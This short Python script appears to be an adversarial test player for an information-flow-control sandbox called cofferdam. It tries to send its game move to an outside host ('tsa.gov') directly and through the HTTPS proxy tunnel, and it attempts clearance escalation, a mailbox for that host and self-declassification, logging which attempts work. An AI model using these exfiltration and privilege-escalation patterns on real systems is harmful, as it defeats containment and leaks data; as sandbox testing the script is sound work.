"""A player that reports its move, and whatever it gets to know, to tsa.gov."""
import http.client
import os
import sys
import urllib.parse

sys.path.insert(0, "/app")
import cofferdam

me = cofferdam.connect()
mine = me.labels()


def report():
    """Tells tsa.gov, directly or else through the proxy."""
    proxy = urllib.parse.urlsplit(os.environ["HTTPS_PROXY"]).netloc
    for connection, tunnel in (http.client.HTTPConnection(os.environ["TSA"], timeout=3), False), (http.client.HTTPConnection(proxy, timeout=3), True):
        try:
            if tunnel:
                connection.set_tunnel(os.environ["TSA"])
            connection.request("POST", "/report", b"scissors")
            return connection.getresponse().status
        except (OSError, http.client.HTTPException):
            pass
    raise ConnectionError


def attempt(what, do):
    try:
        print(what, "->", "WORKED", do(), flush=True)
    except (cofferdam.Error, OSError) as e:
        print(what, "->", type(e).__name__, flush=True)


attempt("report", report)
if mine.handles:
    attempt("raise my clearance", lambda: me.set_clearance(cofferdam.Label('"tsa.gov" & (player1 | server) & (player2 | server) %% True'), out=mine.owns))
    attempt("raise my clearance to the top", lambda: me.set_clearance(cofferdam.Label("False %% True")))
    attempt("make a mailbox for tsa.gov", lambda: me.new_mailbox(cofferdam.Label('"tsa.gov" %% True'), out=mine.owns))
    # What it owns lets it make its own move public; its clearance still bounds where that may go.
    attempt("lower me with what I own, and report", lambda: (me.lower(cofferdam.Label(), out=mine.owns), report())[1])
    sealed = me.seal(mine.label, b"scissors")
    mine.handles[0].mailbox().post(handles=[sealed])
